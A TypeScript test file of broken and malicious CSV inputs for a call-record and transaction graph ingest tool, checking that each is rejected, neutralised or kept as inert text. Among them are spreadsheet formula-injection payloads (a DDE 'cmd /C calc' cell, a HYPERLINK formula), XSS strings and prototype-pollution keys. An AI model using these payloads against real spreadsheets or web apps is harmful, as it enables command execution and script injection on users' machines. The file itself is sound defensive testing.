// The hostile corpus: broken and malicious inputs, each with the outcome it must have. Every case runs through
// the path the CLI and the browser worker share; none may crash, hang or build a silently wrong graph.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { DOMParser } from '@xmldom/xmldom';
import { createCsvStream, MAX_RECORD_CHARS } from '../../src/ingest/csv';
import { validateSpec } from '../../src/ingest/spec';
import { runCase, utf8, type CaseRunResult, type Input } from './run-case';

const CALLS = 'caller,callee,start,duration\n';
const call = (a: string, b: string, minute = 0, duration = '65') =>
  `${a},${b},2024-03-13T14:${String(minute).padStart(2, '0')}:00Z,${duration}\n`;
const GOOD = Array.from({ length: 20 }, (_, i) => call(`07700900${100 + i}`, '07700900456', i)).join('');
const KYC = 'Customer ID,Full Name,MSISDN\n';

const utf16 = (text: string, bigEndian: boolean) => {
  const out = [bigEndian ? 0xfe : 0xff, bigEndian ? 0xff : 0xfe];
  for (const c of text) {
    const code = c.charCodeAt(0);
    out.push(...(bigEndian ? [code >> 8, code & 255] : [code & 255, code >> 8]));
  }
  return new Uint8Array(out);
};
const latin1 = (text: string) => new Uint8Array([...text].map((c) => (c === '€' ? 0x80 : c.charCodeAt(0))));

type Issue = [row: number, column: string, code: string];
interface Expected {
  /** The file is not read, for this reason. */
  skipped?: RegExp;
  rows?: { read: number; used: number; rejected: number; duplicates?: number };
  /** Exactly these rows are rejected (row, column, code), in order; duplicates included. */
  issues?: Issue[];
  check?: (r: CaseRunResult) => void;
}
interface HostileCase {
  name: string;
  files: Record<string, Input>;
  /** Keyed by file name; a case with one file may give its expectation directly. */
  expect: Expected | Record<string, Expected>;
  /** A check of the whole case, beside the files' own. */
  check?: (r: CaseRunResult) => void;
}

const labels = (r: CaseRunResult) => r.outcome!.result.graph.mapNodes((_, n) => n.label).sort();

const CASES: HostileCase[] = [
  // Encodings
  {
    name: 'UTF-8 with a byte-order mark and CRLF',
    files: { 'a.csv': '\ufeff' + (CALLS + GOOD).replace(/\n/g, '\r\n') },
    expect: { rows: { read: 20, used: 20, rejected: 0 }, issues: [] },
  },
  {
    name: 'UTF-16LE with its byte-order mark',
    files: { 'a.csv': utf16(CALLS + GOOD, false) },
    expect: { rows: { read: 20, used: 20, rejected: 0 } },
  },
  {
    name: 'UTF-16BE with its byte-order mark',
    files: { 'a.csv': utf16(CALLS + GOOD, true) },
    expect: { rows: { read: 20, used: 20, rejected: 0 } },
  },
  {
    name: 'Windows-1252 names',
    files: {
      'k.csv': latin1(KYC + 'C1,José Müller,07700900123\n'),
      'c.csv': CALLS + call('07700900123', '07700900456'),
    },
    expect: {
      'k.csv': { rows: { read: 1, used: 1, rejected: 0 } },
      'c.csv': { rows: { read: 1, used: 1, rejected: 0 } },
    },
    check: (r) => expect(labels(r)).toContain('José Müller'),
  },
  {
    name: 'bytes that are not UTF-8 after the sniffed start',
    files: {
      'a.csv': new Uint8Array([
        ...utf8(
          CALLS + Array.from({ length: 6000 }, (_, i) => call('07700900123', `0770090${1000 + i}`, i % 60)).join(''),
        ),
        ...utf8('07700900123,07700900'),
        0xff,
        ...utf8('456,2024-03-13T14:00:00Z,65\n'),
      ]),
    },
    expect: {
      rows: { read: 6001, used: 6000, rejected: 1 },
      issues: [[6002, 'callee', 'bad_phone']],
      check: (r) => expect(r.reports['a.csv']!.warnings.join(' ')).toMatch(/not valid UTF-8 and were read as U\+FFFD/),
    },
  },
  {
    name: 'UTF-16 cut in the middle of a character',
    files: { 'a.csv': new Uint8Array([0xff, 0xfe, 0x61, 0x00, 0x62]) },
    expect: { skipped: /unsure of the delimiter/ },
  },
  // Delimiters and line endings
  {
    name: 'semicolons',
    files: { 'a.csv': (CALLS + GOOD).replace(/,/g, ';') },
    expect: { rows: { read: 20, used: 20, rejected: 0 } },
  },
  {
    name: 'tabs',
    files: { 'a.csv': (CALLS + GOOD).replace(/,/g, '\t') },
    expect: { rows: { read: 20, used: 20, rejected: 0 } },
  },
  {
    name: 'pipes and old Mac line ends (CR only)',
    files: { 'a.csv': (CALLS + GOOD).replace(/,/g, '|').replace(/\n/g, '\r') },
    expect: { rows: { read: 20, used: 20, rejected: 0 } },
  },
  {
    name: 'one column: no delimiter at all',
    files: { 'a.csv': 'caller\n07700900123\n07700900456\n' },
    expect: { skipped: /unsure of the delimiter/ },
  },
  {
    name: 'a delimiter inside an unquoted value',
    files: { 'a.csv': CALLS + GOOD + '07700900123,07700900456,2024-03-13T14:00:00Z,65,extra\n' },
    expect: { rows: { read: 21, used: 20, rejected: 1 }, issues: [[22, '', 'extra_fields']] },
  },
  {
    name: 'a short row',
    files: { 'a.csv': CALLS + GOOD + '07700900123,07700900456\n' },
    expect: { rows: { read: 21, used: 20, rejected: 1 }, issues: [[22, 'start', 'truncated_row']] },
  },
  // Quotes
  {
    name: 'quoted fields with doubled quotes, delimiters and line breaks inside',
    files: {
      'k.csv': KYC + '"C1","Smith, ""Big"" John","07700 900123"\n"C2","Ann\nMarie","07700900456"\n',
      'c.csv': CALLS + call('07700900123', '07700900456'),
    },
    expect: {
      'k.csv': { rows: { read: 2, used: 2, rejected: 0 } },
      'c.csv': { rows: { read: 1, used: 1, rejected: 0 } },
    },
    check: (r) => expect(labels(r)).toEqual(['Ann Marie', 'Smith, "Big" John']),
  },
  {
    name: 'an unbalanced quote: its row and the lines it swallows are rejected, by number',
    files: {
      'a.csv':
        CALLS +
        GOOD +
        '"07700900123,07700900456,2024-03-13T14:06:00Z,65\n' +
        call('07700900124', '07700900456') +
        call('07700900125', '07700900456'),
    },
    expect: {
      rows: { read: 23, used: 20, rejected: 3 },
      issues: [
        [22, '', 'malformed_quotes'],
        [23, '', 'malformed_quotes'],
        [24, '', 'malformed_quotes'],
      ],
      check: (r) => {
        expect(r.issues[0]!.message).toMatch(/next 2 line\(s\), rows 23–24/);
        expect(r.issues[1]!.raw).toBe(call('07700900124', '07700900456').trim());
      },
    },
  },
  {
    name: 'a quote in the middle of an unquoted value',
    files: { 'a.csv': CALLS + GOOD + '0770"0900123,07700900456,2024-03-13T14:00:00Z,65\n' },
    expect: { rows: { read: 21, used: 20, rejected: 1 }, issues: [[22, 'caller', 'bad_phone']] },
  },
  // Huge fields and files
  {
    name: 'a five-million-character cell: rejected, and clipped in the report',
    files: { 'a.csv': CALLS + GOOD + `07700900123,${'9'.repeat(5_000_000)},2024-03-13T14:06:00Z,65\n` },
    expect: {
      rows: { read: 21, used: 20, rejected: 1 },
      issues: [[22, 'callee', 'bad_phone']],
      check: (r) => {
        expect(r.issues[0]!.raw.length).toBeLessThan(2100);
        expect(r.issues[0]!.raw).toMatch(/… \(5,000,\d{3} characters\)$/);
        expect(r.issues[0]!.message.length).toBeLessThan(600);
      },
    },
  },
  {
    name: 'a header of 100,000 columns, all but four unnamed',
    files: {
      'a.csv': CALLS.trim() + ','.repeat(100_000) + '\n' + call('07700900123', '07700900456') + '07700900123\n',
    },
    expect: { rows: { read: 2, used: 1, rejected: 1 }, issues: [[3, 'callee', 'truncated_row']] },
  },
  // Binary and empty
  { name: 'an empty file', files: { 'a.csv': '' }, expect: { skipped: /the file is empty/ } },
  { name: 'only line breaks and spaces', files: { 'a.csv': '\n \r\n\t\n' }, expect: { skipped: /the file is empty/ } },
  {
    name: 'a ZIP archive',
    files: { 'a.csv': new Uint8Array([0x50, 0x4b, 3, 4, 20, 0, 0, 0, 8, 0, 0x21, 0, 0xff, 0xfe]) },
    expect: { skipped: /binary data/ },
  },
  {
    name: 'a PNG image',
    files: { 'a.csv': new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48]) },
    expect: { skipped: /binary data/ },
  },
  {
    name: 'a header and no rows',
    files: { 'a.csv': CALLS },
    expect: {
      rows: { read: 0, used: 0, rejected: 0 },
      check: (r) => expect(r.reports['a.csv']!.warnings.join(' ')).toMatch(/no data rows/),
    },
  },
  // Formula-like cells and HTML: kept as text in the graph (the exports and the app are checked below and in
  // the browser tests)
  {
    name: 'formula-like names',
    files: {
      'k.csv':
        KYC +
        'C1,"=HYPERLINK(""http://x.example/?""&A1,""Click"")",07700900123\n' +
        "C2,+cmd|' /C calc'!A0,07700900456\n" +
        'C3,@SUM(1+1),07700900789\n' +
        'C4,-2+3,07700900321\n',
      'c.csv':
        CALLS +
        call('07700900123', '07700900456') +
        call('07700900789', '07700900321', 1) +
        call('07700900123', '07700900789', 2),
    },
    expect: {
      'k.csv': { rows: { read: 4, used: 4, rejected: 0 } },
      'c.csv': { rows: { read: 3, used: 3, rejected: 0 } },
    },
    check: (r) => expect(labels(r).filter((l) => /^[=+@-]/.test(l))).toHaveLength(4),
  },
  {
    name: 'HTML and script in names',
    files: {
      'k.csv': KYC + 'C1,<img src=x onerror=alert(1)>,07700900123\nC2,"<script>alert(""x"")</script>",07700900456\n',
      'c.csv': CALLS + call('07700900123', '07700900456'),
    },
    expect: {
      'k.csv': { rows: { read: 2, used: 2, rejected: 0 } },
      'c.csv': { rows: { read: 1, used: 1, rejected: 0 } },
    },
    check: (r) => expect(labels(r).join(' ')).toMatch(/<script>alert\("x"\)<\/script>/i),
  },
  {
    name: 'control characters and bidirectional overrides in names',
    files: {
      'k.csv': KYC + 'C1,Ann\u0007\u001b[31m Lee,07700900123\nC2,Bob \u202eeilA,07700900456\n',
      'c.csv': CALLS + call('07700900123', '07700900456'),
    },
    expect: {
      'k.csv': { rows: { read: 2, used: 2, rejected: 0 } },
      'c.csv': { rows: { read: 1, used: 1, rejected: 0 } },
    },
    check: (r) => {
      // eslint-disable-next-line no-control-regex
      for (const l of labels(r)) expect(l).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    },
  },
  // Keys that are special to JavaScript objects
  {
    name: 'a header of __proto__, constructor and prototype',
    files: { 'a.csv': '__proto__,constructor,prototype\n1,2,3\n' },
    expect: { skipped: /unknown kind of file/ },
  },
  {
    name: '__proto__ and constructor columns beside real ones',
    files: {
      'a.csv':
        'caller,callee,start,duration,__proto__,constructor,hasOwnProperty\n' +
        '07700900123,07700900456,2024-03-13T14:05:00Z,65,{"polluted":1},x,y\n',
    },
    expect: {
      rows: { read: 1, used: 1, rejected: 0 },
      check: () => expect(({} as Record<string, unknown>).polluted).toBeUndefined(),
    },
  },
  {
    name: '__proto__ and constructor as currencies',
    files: {
      't.csv':
        'date,from_account,to_account,amount,currency\n' +
        '2024-03-13,GB82WEST12345698765432,DE89370400440532013000,100,__proto__\n' +
        '2024-03-14,GB82WEST12345698765432,DE89370400440532013000,100,constructor\n' +
        '2024-03-15,GB82WEST12345698765432,DE89370400440532013000,100,EUR\n',
    },
    expect: {
      rows: { read: 3, used: 1, rejected: 2 },
      issues: [
        [2, 'currency', 'bad_amount'],
        [3, 'currency', 'bad_amount'],
      ],
    },
  },
  // Timestamps
  {
    name: 'timestamps out of range, and impossible ones',
    files: {
      'a.csv':
        CALLS +
        GOOD +
        '07700900123,07700900456,9999-12-31T23:59:59Z,65\n' +
        '07700900123,07700900456,0001-01-01T00:00:00Z,65\n' +
        '07700900123,07700900456,2024-02-30T10:00:00Z,65\n' +
        '07700900123,07700900456,2024-03-13T25:00:00Z,65\n' +
        '07700900123,07700900456,+275760-09-13T00:00:00Z,65\n',
    },
    expect: {
      rows: { read: 25, used: 20, rejected: 5 },
      issues: [
        [22, 'start', 'bad_date'],
        [23, 'start', 'bad_date'],
        [24, 'start', 'bad_date'],
        [25, 'start', 'bad_date'],
        [26, 'start', 'bad_date'],
      ],
      check: (r) => {
        expect(r.issues[0]!.message).toMatch(/outside the plausible years 1900–2099/);
        expect(r.issues[1]!.message).toMatch(/outside the plausible years/);
        expect(r.issues[2]!.message).toMatch(/not a date-time/);
      },
    },
  },
  {
    name: 'Unix times out of range',
    files: {
      'a.csv':
        CALLS +
        Array.from({ length: 20 }, (_, i) => `07700900${100 + i},07700900456,${1710338700 + 60 * i},65\n`).join('') +
        '07700900123,07700900456,0,65\n07700900123,07700900456,-86400,65\n07700900123,07700900456,99999999999999999,65\n',
    },
    expect: {
      rows: { read: 23, used: 20, rejected: 3 },
      issues: [
        [22, 'start', 'bad_date'],
        [23, 'start', 'bad_date'],
        [24, 'start', 'bad_date'],
      ],
    },
  },
  // Numbers of every shape
  {
    name: 'phone numbers of every shape',
    files: {
      'a.csv':
        CALLS +
        [
          '+44 (0) 7700 900123',
          '0044 7700 900124',
          '٠٧٧٠٠٩٠٠١٢٥',
          '０７７００ ９００１２６',
          '1e308',
          'NaN',
          'Infinity',
          '-0',
          '0'.repeat(40),
          '+',
          '07700 900123 ext 5',
        ]
          .map((n, i) => call(n, '07700900456', i))
          .join(''),
    },
    expect: {
      rows: { read: 11, used: 4, rejected: 7 },
      issues: [
        [6, 'caller', 'bad_phone'],
        [7, 'caller', 'bad_phone'],
        [8, 'caller', 'bad_phone'],
        [9, 'caller', 'bad_phone'],
        [10, 'caller', 'withheld_party'],
        [11, 'caller', 'bad_phone'],
        [12, 'caller', 'bad_phone'],
      ],
      check: (r) =>
        expect(labels(r)).toEqual([
          '+447700900123',
          '+447700900124',
          '+447700900125',
          '+447700900126',
          '+447700900456',
        ]),
    },
  },
  {
    name: 'durations of every shape',
    files: {
      'a.csv':
        CALLS +
        ['65', '1:05', '00:01:05', '1e308', 'NaN', '-5', '99:99:99', '1'.repeat(400)]
          .map((d, i) => call('07700900123', '07700900456', i, d))
          .join(''),
    },
    expect: {
      rows: { read: 8, used: 3, rejected: 5 },
      check: (r) => expect(r.issues.at(-1)!.message).toMatch(/up to a week/),
      issues: [
        [5, 'duration', 'bad_duration'],
        [6, 'duration', 'bad_duration'],
        [7, 'duration', 'bad_duration'],
        [8, 'duration', 'bad_duration'],
        [9, 'duration', 'bad_duration'],
      ],
    },
  },
  {
    name: 'amounts of every shape',
    files: {
      't.csv':
        'date,from_account,to_account,amount,currency\n' +
        ['100', '-250.50', '1e308', 'NaN', 'Infinity', '0x10', '1'.repeat(400), '0', '"1,000,000,000,000,000,000,000"']
          .map(
            (a, i) =>
              `2024-03-${String(10 + i).padStart(2, '0')},GB82WEST12345698765432,DE89370400440532013000,${a},EUR\n`,
          )
          .join(''),
    },
    expect: {
      rows: { read: 9, used: 2, rejected: 7 },
      issues: [
        [4, 'amount', 'bad_amount'],
        [5, 'amount', 'bad_amount'],
        [6, 'amount', 'bad_amount'],
        [7, 'amount', 'bad_amount'],
        [8, 'amount', 'bad_amount'],
        [9, 'amount', 'bad_amount'],
        [10, 'amount', 'bad_amount'],
      ],
      check: (r) => {
        // The negative amount is money flowing the other way.
        const [a, b] = r.outcome!.result.graph.edges().map((k) => r.outcome!.result.graph.getEdgeAttributes(k));
        expect([a, b].map((e) => e!.amounts.EUR).sort()).toEqual([100, 250.5]);
      },
    },
  },
  // Rows that are not contacts
  {
    name: 'a number calling itself, and exact duplicates',
    files: { 'a.csv': CALLS + GOOD + call('07700900123', '07700900123') + GOOD.split('\n')[0] + '\n' },
    expect: {
      rows: { read: 22, used: 20, rejected: 1, duplicates: 1 },
      issues: [
        [22, 'callee', 'self_contact'],
        [23, '', 'duplicate_row'],
      ],
    },
  },
];

function expectationFor(c: HostileCase, file: string): Expected {
  const e = c.expect as Record<string, Expected>;
  return Object.keys(c.files).length > 1 ? e[file]! : (c.expect as Expected);
}

describe('the hostile corpus', () => {
  for (const c of CASES) {
    it(`#runCase: ${c.name}`, () => {
      const r = runCase(c.files);
      for (const file of Object.keys(c.files)) {
        const e = expectationFor(c, file);
        const report = r.reports[file]!;
        // Nothing is lost silently: every row read is used, rejected or a duplicate, and each of the last two
        // has its issue naming the file and row.
        expect(report.rowsRead).toBe(report.rowsUsed + report.rowsRejected + report.duplicates);
        const issues = r.issues.filter((i) => i.file === file);
        expect(issues).toHaveLength(report.rowsRejected + report.duplicates);
        if (e.skipped) expect(report.skipped).toMatch(e.skipped);
        else expect(report.skipped).toBeUndefined();
        if (e.rows)
          expect(report).toMatchObject({
            rowsRead: e.rows.read,
            rowsUsed: e.rows.used,
            rowsRejected: e.rows.rejected,
            duplicates: e.rows.duplicates ?? 0,
          });
        if (e.issues) expect(issues.map((i) => [i.row, i.column, i.code])).toEqual(e.issues);
        e.check?.(r);
      }
      c.check?.(r);
    });
  }

  it('#runCase: an unbalanced quote early in a large file stops reading with an error naming the file and the limit', () => {
    const line = call('07700900123', '07700900456');
    const body = line.repeat(Math.ceil((2 * MAX_RECORD_CHARS) / line.length));
    const text = CALLS + '"07700900123,07700900456,2024-03-13T14:05:00Z,65\n' + body;
    expect(() => runCase({ 'big.csv': text }, 1 << 20)).toThrow(
      /ingest: big\.csv: row 2 runs past 16 million characters without ending, so reading stopped; an unbalanced quote/,
    );
  });

  it('#validateSpec: a mapping cannot name __proto__ or constructor as a field, with or without a kind', () => {
    for (const kind of [{}, { kind: 'calls' }]) {
      for (const field of ['__proto__', 'constructor']) {
        const json = JSON.parse(
          `{"version":1,"files":{"a.csv":{${kind ? '"kind":"calls",' : ''}"columns":{"${field}":"x"}}}}`,
        );
        if (!('kind' in kind)) delete json.files['a.csv'].kind;
        expect(() => validateSpec(json)).toThrow(/is not a field/);
      }
    }
    expect(({} as Record<string, unknown>).x).toBeUndefined();
  });

  it('#exportCase: no exported CSV cell can run as a formula, and HTML stays text in the GEXF', () => {
    const formulaCase = CASES.find((c) => c.name === 'formula-like names')!;
    const htmlCase = CASES.find((c) => c.name === 'HTML and script in names')!;
    const outputs = runCase(formulaCase.files).outcome!.outputs;
    let cells = 0;
    for (const [name, chunks] of outputs) {
      if (!name.endsWith('.csv')) continue;
      const rows = Papa.parse<string[]>(chunks.join(''), { delimiter: ',', skipEmptyLines: true }).data;
      for (const row of rows)
        for (const cell of row) {
          cells++;
          if (/^[=+\-@\t\r]/.test(cell)) expect(cell, `${name}: ${cell}`).toMatch(/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i);
        }
    }
    expect(cells).toBeGreaterThan(100);
    const nodes = Papa.parse<string[]>(outputs.get('nodes.csv')!.join(''), { delimiter: ',' }).data;
    // Neutralised with an apostrophe, and still readable.
    expect(nodes.map((n) => n[1]).filter((l) => l?.startsWith("'"))).toHaveLength(4);
    const gexf = runCase(htmlCase.files).outcome!.outputs.get('graph.gexf')!.join('');
    const doc = new DOMParser().parseFromString(gexf, 'text/xml');
    const gexfLabels = [...Array.from(doc.getElementsByTagName('node'))].map((n) => n.getAttribute('label'));
    expect(gexfLabels.map((l) => l?.toLowerCase())).toContain('<img src=x onerror=alert(1)>');
    expect(doc.getElementsByTagName('script')).toHaveLength(0);
  });
});

describe('#createCsvStream', () => {
  it('rethrows what a row handler throws, instead of stopping silently (papaparse swallows it)', () => {
    const seen: number[] = [];
    const stream = createCsvStream({ delimiter: ',', lineEnding: '\n' }, (r) => {
      seen.push(r.row);
      if (r.row === 3) throw new TypeError('a bug in an adapter');
    });
    expect(() => stream.push('a,b\n1,2\n3,4\n5,6\n')).toThrow(/a bug in an adapter/);
    expect(seen).toEqual([1, 2, 3]);
  });
});
